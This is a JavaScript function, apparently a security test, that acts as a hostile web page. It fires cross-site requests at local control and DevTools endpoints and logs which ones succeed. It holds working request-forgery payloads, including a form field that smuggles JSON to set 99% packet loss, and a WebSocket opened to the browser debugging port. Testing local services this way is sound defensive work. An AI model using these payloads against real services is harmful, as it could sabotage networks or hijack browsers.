// What a hostile page tries at addresses: every way that a browser has to send something. Tells what came of each.
async (bases) => {
  const everywhere = await Promise.all(bases.map(attack));
  return Object.fromEntries(bases.map((base, index) => [base, everywhere[index]]));

async function attack(base) {
  const change = JSON.stringify({ ingress: { loss: "99%" }, egress: { loss: "99%" } });
  const json = { "Content-Type": "application/json" };
  const within = (work) => Promise.race([work, new Promise((done) => setTimeout(() => done("silent"), 2000))]);
  const ask = (path, how) => fetch(base + path, how).then((answer) => answer.type === "opaque" ? "opaque" : answer.status, () => "failed");

  const image = (path) => new Promise((done) => {
    const element = new Image();
    element.onload = () => done("shown");
    element.onerror = () => done("failed");
    element.src = base + path;
  });
  const socket = (path) => new Promise((done) => {
    const opened = new WebSocket(base.replace("http", "ws") + path);
    opened.onopen = () => done("opened");
    opened.onerror = () => done("failed");
  });
  const form = (path, type) => {
    const frame = document.createElement("iframe");
    frame.name = `target${Math.random()}`;
    const element = document.createElement("form");
    Object.assign(element, { action: base + path, method: "POST", enctype: type, target: frame.name });
    const field = document.createElement("input");
    Object.assign(field, { name: change.slice(0, -1) + ',"x":"', value: '"}' });  // with the `=` between them it is JSON
    element.append(field);
    document.documentElement.append(frame, element);
    element.submit();
    return new Promise((done) => { frame.onload = () => done("sent"); });
  };

  const attempts = {};
  for (const method of ["PUT", "PATCH", "DELETE", "POST"]) {
    attempts[`${method} conditions`] = ask("/v1/conditions", { method, headers: json, body: change });
  }
  for (const path of ["/v1/conditions", "/qos", "/v1/stats", "/v1/files/x"]) {
    attempts[`simple POST ${path}`] = ask(path, { method: "POST", mode: "no-cors", body: change });
    attempts[`beacon ${path}`] = Promise.resolve(navigator.sendBeacon(base + path, change) && "sent");
    attempts[`form ${path}`] = form(path, "text/plain");
  }
  attempts["form /qos, multipart"] = form("/qos", "multipart/form-data");
  attempts["GET state"] = ask("/v1/state", {});
  attempts["GET targets"] = ask("/json/list", {});
  attempts["PUT new tab"] = ask("/json/new?about:blank", { method: "PUT" });
  attempts["image"] = image("/v1/conditions?check=false");
  attempts["image of a new tab"] = image("/json/new?about:blank");
  attempts["WebSocket"] = socket("/devtools/browser");
  const outcomes = {};
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => { outcomes[name] = await within(attempt); }));
  return outcomes;
}
}
